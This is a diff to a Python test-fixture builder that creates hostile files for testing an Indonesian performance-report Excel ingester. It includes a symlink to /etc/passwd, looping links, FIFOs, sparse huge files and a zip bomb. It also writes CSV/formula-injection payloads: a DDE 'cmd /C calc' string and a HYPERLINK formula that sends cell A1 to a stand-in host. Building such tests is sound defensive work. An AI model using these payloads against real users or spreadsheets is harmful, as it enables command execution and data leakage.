@@ -19,16 +19,19 @@ ROOT = Path(__file__).resolve().parents[1]
 GOOD = ROOT / "input_xlsx"
 SOURCE = GOOD / "Dinas Kesehatan - Capaian Kinerja 2018.xlsx"
 BOMB_MB = 200
+BIG_MB = int(os.environ.get("SAKIP_HOSTILE_BIG_MB", "512"))  # the unrelated large file
+LONG_FOLDER = "Re_ Fwd_ laporan capaian kinerja tahun 2018 dari dinas perhubungan kota binjai"
 
 
 @dataclass(frozen=True)
 class Hostile:
     """One hostile file, the status it must get and the rule that must explain it."""
 
-    name: str
-    status: str  # ditolak | diabaikan | diterima dengan peringatan
-    rule: str  # the issue rule expected on it ('' for ignored files)
+    name: str  # as the report shows it (bytes that are not UTF-8, controls: \\xNN)
+    status: str  # ditolak | diabaikan | diterima dengan peringatan | digantikan
+    rule: str  # the issue rule expected on it once ('' for none in particular)
     reason: str  # a phrase the reason must contain
+    opd: str = ""  # the OPD whose own rows this file changes ('' for none)
 
 
 def _rewrite(dst: Path, mutate, src: Path = SOURCE) -> None:
@@ -139,6 +142,140 @@ def encrypted(dst: Path) -> None:
         OOXMLFile(src).encrypt("rahasia", out)
 
 
+def _file_of(folder: Path, kode_opd: str) -> Path:
+    from tests.broken_files import _meta
+
+    return _meta(kode_opd, folder)
+
+
+def _older_copy(src: Path, dst: Path | bytes, when: str = "2019-01-05T08:00:00Z") -> None:
+    """A copy of an OPD's file saved earlier than the original (so the original stays used)."""
+    from tests.broken_files import _stamp
+
+    data = src.read_bytes()
+    with open(dst, "wb") as fh:
+        fh.write(data)
+    _stamp(Path(os.fsdecode(dst)), when)
+
+
+@dataclass(frozen=True)
+class Formula:
+    """A cell formula (as opposed to text that looks like one)."""
+
+    text: str
+
+
+def _cells(path: Path, changes: dict[tuple[str, str], object]) -> None:
+    """Set Indikator cells ``(kode_indikator, column key) -> value`` as an OPD would, keeping
+    the file's save time. Text is written as text; ``\\x0b`` and other control characters
+    are written the way Excel stores them (``_x000B_``)."""
+    from tests.broken_files import COL, _edit, _row, _set
+
+    marks: dict[str, str] = {}
+
+    def change(wb) -> str:
+        ws = wb["Indikator"]
+        for (code, column), value in changes.items():
+            if isinstance(value, str) and any(ord(ch) < 32 and ch not in "\t\n\r" for ch in value):
+                mark = f"@@{len(marks)}@@"
+                marks[mark] = "".join(
+                    f"_x{ord(ch):04X}_" if ord(ch) < 32 and ch not in "\t\n\r" else ch
+                    for ch in value
+                )
+                _set(ws, f"{COL[column]}{_row(ws, code)}", mark)
+            elif isinstance(value, Formula):
+                ws[f"{COL[column]}{_row(ws, code)}"] = value.text  # a live formula
+            else:
+                _set(ws, f"{COL[column]}{_row(ws, code)}", value)
+        return ""
+
+    _edit(path, change)
+    if marks:
+
+        def escape(name: str, data: bytes) -> bytes:
+            if name.endswith(".xml"):
+                for mark, raw in marks.items():
+                    data = data.replace(mark.encode(), raw.encode())
+            return data
+
+        tmp = path.with_suffix(".tmp")
+        _rewrite(tmp, escape, src=path)
+        tmp.replace(path)
+
+
+def _sparse(path: Path, megabytes: int, head: bytes = b"") -> None:
+    """A large file that takes no disk space (a hole after ``head``)."""
+    with path.open("wb") as fh:
+        fh.write(head)
+        fh.truncate(megabytes * 1024 * 1024)
+
+
+INJECTION = {
+    "faktor_penghambat": '=HYPERLINK("http://contoh.invalid/?"&A1,"Klik")',
+    "faktor_pendorong": "@SUM(1+1)\x07 dukungan\x1b[31m anggaran",
+    "tindak_lanjut": "+cmd|' /C calc'!A0",
+}
+
+
+def build_file_system_cases(folder: Path, add) -> None:
+    """Names, paths and things in the folder that are not plain files."""
+    import socket
+
+    dinkes, dinsos = _file_of(folder, "DINKES"), _file_of(folder, "DINSOS")
+    _older_copy(dinkes, folder / "Dinkes \x07\x1b[31m.xlsx")
+    add("Dinkes \\x07\\x1b[31m.xlsx", "digantikan", "berkas.digantikan", "")
+    _older_copy(dinsos, os.fsencode(folder) + b"/Dinas Sosial \xe9\xff.xlsx")
+    add("Dinas Sosial \\xe9\\xff.xlsx", "digantikan", "berkas.digantikan", "")
+    dishub = _file_of(folder, "DISHUB")
+    deep = folder / LONG_FOLDER / (LONG_FOLDER + " lampiran") / "dokumen masuk dinas"
+    deep.mkdir(parents=True)
+    name = deep.relative_to(folder) / (
+        "Dinas Perhubungan - Capaian Kinerja 2018 perbaikan" + ".xlsx"
+    )
+    assert len(str(name)) >= 238, len(str(name))
+    dishub.rename(folder / name)
+    add(name.as_posix(), "diterima", "", "", opd="DISHUB")
+    os.symlink(folder / "tidak ada.xlsx", folder / "tautan rusak.xlsx")
+    add("tautan rusak.xlsx", "diabaikan", "", "tautan simbolik rusak")
+    os.symlink(folder / "putar b.xlsx", folder / "putar a.xlsx")
+    os.symlink(folder / "putar a.xlsx", folder / "putar b.xlsx")
+    add("putar a.xlsx", "diabaikan", "", "berputar")
+    add("putar b.xlsx", "diabaikan", "", "berputar")
+    os.symlink(folder, folder / "folder ini")
+    add("folder ini", "diabaikan", "", "ke folder")
+    os.symlink("/etc/passwd", folder / "Dinkes sandi.xlsx")
+    add("Dinkes sandi.xlsx", "diabaikan", "", "ke luar folder")
+    os.mkfifo(folder / "pipa.xlsx")
+    add("pipa.xlsx", "diabaikan", "", "FIFO")
+    sock = socket.socket(socket.AF_UNIX)
+    try:
+        sock.bind(str(folder / "soket.xlsx"))
+    finally:
+        sock.close()
+    add("soket.xlsx", "diabaikan", "", "soket")
+    _sparse(folder / "arsip surat.zip", BIG_MB, b"PK\x03\x04")
+    add("arsip surat.zip", "diabaikan", "", "bukan berkas Excel")
+    _sparse(folder / "Dinkes besar.xlsx", 40, b"PK\x03\x04")
+    add("Dinkes besar.xlsx", "ditolak", "berkas.format", "terlalu besar")
+
+
+def build_content_cases(folder: Path, add) -> None:
+    """OPD text that must reach every output as plain, printable text."""
+    kesra = _file_of(folder, "BAG_KESRA")
+    _cells(kesra, {("IK05.01", "realisasi_tahunan"): "70\x0b5"})
+    add(kesra.name, "diterima dengan peringatan", "", "", opd="BAG_KESRA")
+    kominfo = _file_of(folder, "DISKOMINFO")
+    live = Formula('=HYPERLINK("http://contoh.invalid/","klik di sini")')
+    _cells(
+        kominfo,
+        {
+            **{("IK01.04", k): v for k, v in INJECTION.items()},
+            ("IK01.05", "faktor_pendorong"): live,
+        },
+    )
+    add(kominfo.name, "diterima dengan peringatan", "", "", opd="DISKOMINFO")
+
+
 def build(folder: Path, with_good: bool = True) -> list[Hostile]:
     """Write the hostile set into ``folder`` (beside copies of the good files)."""
     if folder.exists():
@@ -149,8 +286,8 @@ def build(folder: Path, with_good: bool = True) -> list[Hostile]:
         folder.mkdir(parents=True)
     out: list[Hostile] = []
 
-    def add(name: str, status: str, rule: str, reason: str) -> Path:
-        out.append(Hostile(name, status, rule, reason))
+    def add(name: str, status: str, rule: str, reason: str, opd: str = "") -> Path:
+        out.append(Hostile(name, status, rule, reason, opd))
         return folder / name
 
     zip_bomb(add("Dinas Kesehatan - bom zip.xlsx", "ditolak", "berkas.format", "zip bomb"))
@@ -189,6 +326,9 @@ def build(folder: Path, with_good: bool = True) -> list[Hostile]:
         b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + "Workbook".encode("utf-16-le")
     )
     (add("scan surat.pdf", "diabaikan", "", "bukan berkas Excel")).write_bytes(b"%PDF-1.4")
+    if with_good:
+        build_file_system_cases(folder, add)
+        build_content_cases(folder, add)
     return out
 
 
